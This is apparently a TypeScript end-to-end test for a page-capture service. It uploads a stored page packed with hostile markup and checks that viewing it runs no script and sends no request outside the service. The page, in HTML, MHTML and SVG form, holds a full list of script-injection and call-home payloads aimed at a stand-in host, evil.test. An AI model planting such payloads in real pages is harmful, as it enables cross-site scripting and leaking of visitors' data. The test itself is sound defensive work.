import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { StoredCapture } from './stage/acts';
import { pages } from './stage/settings';
import { lamps } from './stage/samples';
import { expect, test } from './stage/stage';

const beacon = 'http://evil.test/beacon';
const steal = `window.__ran=1;fetch('${beacon}?script')`;

/** The ways in which a stored page could run something or call home. */
const vectors = `<!doctype html><html><head><title>full of scripts</title>
<base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=${beacon}?refresh">
<link rel="stylesheet" href="${beacon}?css"><link rel="preload" as="image" href="${beacon}?preload"><link rel="prefetch" href="${beacon}?prefetch"><link rel="icon" href="${beacon}?icon">
<style>@import url("${beacon}?import"); @font-face { font-family: x; src: url("${beacon}?font") } body { background: url("${beacon}?background"); font-family: x }</style>
<script>${steal}</script><script src="${beacon}?src"></script></head>
<body onload="${steal}"><img src="${beacon}?img" onerror="${steal}"><svg onload="${steal}"><script>${steal}</script><image href="${beacon}?svg"/></svg>
<iframe src="${beacon}?frame"></iframe><iframe srcdoc="<script>parent.__ran=1</script>"></iframe><object data="${beacon}?object"></object><embed src="${beacon}?embed">
<video src="${beacon}?video" poster="${beacon}?poster"></video><audio src="${beacon}?audio" autoplay></audio><input autofocus onfocus="${steal}"><details open ontoggle="${steal}">x</details>
<form id="f" action="${beacon}?form"><input name="a"></form><a id="a" href="javascript:${steal}">x</a><math><annotation-xml encoding="text/html"><img src=x onerror="${steal}"></annotation-xml></math>
<script>document.getElementById('f').submit()</script></body></html>`;

const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}" width="10" height="10"><script>${steal}</script><image href="${beacon}?inner" width="5" height="5"/></svg>`;
const mhtml = `From: <Saved>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://evil.test/\r\n\r\n${vectors}\r\n--b--\r\n`;

test('A stored page full of scripts runs none of them and sends nothing when it is looked at', async ({ program, buyer, shop }) => {
  const head = { ...(JSON.parse(readFileSync(join(pages, 'order-detail', lamps, 'capture.json'), 'utf8')) as object), id: randomUUID() };
  const form = new FormData();
  form.append('capture', new Blob([JSON.stringify(head)], { type: 'application/json' }), 'capture.json');
  form.append('page', new Blob([vectors], { type: 'text/html' }), 'page');
  form.append('snapshot', new Blob([mhtml], { type: 'multipart/related' }), 'snapshot');
  form.append('image', new Blob([svg], { type: 'image/svg+xml' }), 'image');
  const answer = await program.ask('/captures', { method: 'POST', body: form });
  expect(answer.status, await answer.clone().text()).toBe(201);
  const { parts } = await program.read<StoredCapture>(`/captures/${head.id}`);
  expect(parts).toHaveLength(3);

  for (const part of parts) {
    const { address } = (await (await program.ask(`/captures/${head.id}/parts/${part.sha256}/view`, { method: 'POST' })).json()) as { address: string };
    const tab = await buyer.context.newPage();
    // The tools tell of requests that the policy stopped as well; those never left the page.
    const sent: string[] = [];
    tab.on('requestfinished', (request) => sent.push(request.url()));
    tab.on('requestfailed', (request) => request.failure()?.errorText !== 'csp' && sent.push(request.url()));
    const saved = tab.waitForEvent('download').then(() => 'saved', () => 'closed');
    const opened = await tab.goto(program.address + address).then((answer) => answer, () => null);
    if (opened) {
      expect(opened.headers()['content-security-policy']).toContain('sandbox');
      // Two frames and a turn of the clock that the page itself cannot stop: whatever runs on load has run.
      await tab.screenshot();
      expect(await tab.evaluate(() => (window as unknown as { __ran?: number }).__ran)).toBeUndefined();
    } else expect(await saved, 'what is not shown is saved to disk').toBe('saved');
    expect(sent.filter((url) => !url.startsWith(program.address))).toEqual([]);
    await tab.close();
  }
  expect(shop.unserved).toEqual([]);
});

test('A ticket that was never given shows nothing', async ({ program }) => {
  expect((await fetch(`${program.address}/view/${'A'.repeat(22)}`)).status).toBeGreaterThanOrEqual(400);
});
